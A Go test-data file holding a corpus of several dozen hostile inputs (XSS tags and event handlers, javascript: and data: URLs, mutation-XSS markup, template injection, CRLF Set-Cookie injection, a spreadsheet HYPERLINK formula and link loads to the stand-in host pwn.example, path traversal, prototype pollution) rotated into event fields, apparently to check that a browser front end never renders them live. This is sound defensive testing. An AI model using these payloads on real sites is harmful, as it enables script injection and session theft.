//go:build browser

package browser

// hostile is what a stranger may write where somebody else will look. Wherever a browser made code or markup of one, it
// would call pwn, or there would be an element or attribute that no page of ours has.
var hostile = []string{
	// Elements.
	`<script>pwn(1)</script>`,
	`"><script>pwn(2)</script>`,
	`'"--></style></script></title></textarea></noscript></template><script>pwn(3)</script>`,
	`<img src=x onerror=pwn(4)>`,
	`"><img src=x onerror="pwn(5)"><x-pwn>`,
	`<svg onload=pwn(6)>`,
	`<svg><script href="data:,pwn(7)"/></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:pwn(8) /><a id=x><text x=20 y=20>go</text></a></svg>`,
	`<iframe srcdoc="<script>parent.pwn(9)</script>"></iframe>`,
	`<iframe src=javascript:parent.pwn(10)></iframe>`,
	`<object data="data:text/html,<script>opener.pwn(11)</script>"></object>`,
	`<details open ontoggle=pwn(12)><summary>x</summary></details>`,
	`<input autofocus onfocus=pwn(13)>`,
	`<video><source onerror=pwn(14)></video>`,
	`<body onload=pwn(15)>`,
	`<marquee onstart=pwn(16)>x</marquee>`,
	`<base href=//pwn.example/>`,
	`<meta http-equiv=refresh content="0;url=//pwn.example/17">`,
	`<link rel=stylesheet href=//pwn.example/18.css>`,
	`<form action=//pwn.example/19><button autofocus>x</button></form>`,
	`<a href=//pwn.example ping=//pwn.example>x</a>`,
	// Attributes, quoted in every way or not at all.
	`" onmouseover=pwn(22) autofocus onfocus=pwn(22) x-pwn="`,
	`' onmouseover=pwn(23) autofocus onfocus=pwn(23) x-pwn='`,
	"` onfocus=pwn(24) autofocus x-pwn=`",
	`x onfocus=pwn(25) autofocus x-pwn`,
	`" hx-get="//pwn.example/26" hx-trigger="load" hx-on::load="pwn(26)" data-hx-get="/x`,
	`" style="background:url(//pwn.example/27)" x-pwn="`,
	// URLs.
	`javascript:pwn(28)`,
	`JaVaScRiPt:pwn(29)//https://shop.example/`,
	"java\tscript:pwn(30)",
	"\x01javascript:pwn(31)",
	` javascript:pwn(32)`,
	`data:text/html,<script>opener.pwn(33)</script>`,
	`vbscript:pwn(34)`,
	`//pwn.example/35`,
	`\\pwn.example\36`,
	`https://shop.example@pwn.example/"onfocus=pwn(37)`,
	`blob:https://shop.example/pwn-38`,
	// Other languages: template engines, scripts, styles, JSON in a script, comments.
	`{{constructor.constructor('pwn(39)')()}}${pwn(39)}<%= pwn(39) %>{{.Data}}`,
	`';pwn(40);//";pwn(40);//</script><script>pwn(40)</script>`,
	"\u2028pwn(41)\u2029//",
	`</style><style>@import url(//pwn.example/42);*{background:url(//pwn.example/42)}</style>`,
	`]]><script>pwn(43)</script><![CDATA[`,
	`--!><img src=x onerror=pwn(44)><!--`,
	// Markup that changes when it is read a second time.
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn(45)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=pwn(46)>">`,
	`&lt;img src=x onerror=pwn(47)&gt;&#60;script&#62;pwn(47)&#60;/script&#62;`,
	`<<script>script>pwn(48)<</script>/script>`,
	`<scr` + "\x00" + `ipt>pwn(49)</scr` + "\x00" + `ipt>`,
	// Characters.
	"\u202egnp.exe\u202c \u2066<x-pwn>\u2069 \u200b\ufeff\u00ad",
	"＜script＞pwn(51)＜/script＞ \u0130\u017f\u212a",
	"%3Cscript%3Epwn(52)%3C/script%3E%0d%0aSet-Cookie:pwn=1",
	"\r\nSet-Cookie: pwn=1\r\n\r\n<script>pwn(53)</script>",
	`[x](javascript:pwn(54)) ![x](//pwn.example/54.png) <javascript:pwn(54)>`,
	"```\n<img src=x onerror=pwn(55)>\n```",
	`=HYPERLINK("//pwn.example/56")`,
	`../../../../etc/passwd<img src=x onerror=pwn(57)>`,
	`{"__proto__":{"pwn":58},"constructor":{"prototype":{"pwn":58}}}`,
	`__proto__`,
	`<img id=trivetCombo name=htmx><form id=tail><input name=action></form>`,
}

// turn gives the field of a number in the event of a number one of the corpus, so that over all events each field has
// each.
func turn(event, field int) string { return hostile[(event+field)%len(hostile)] }
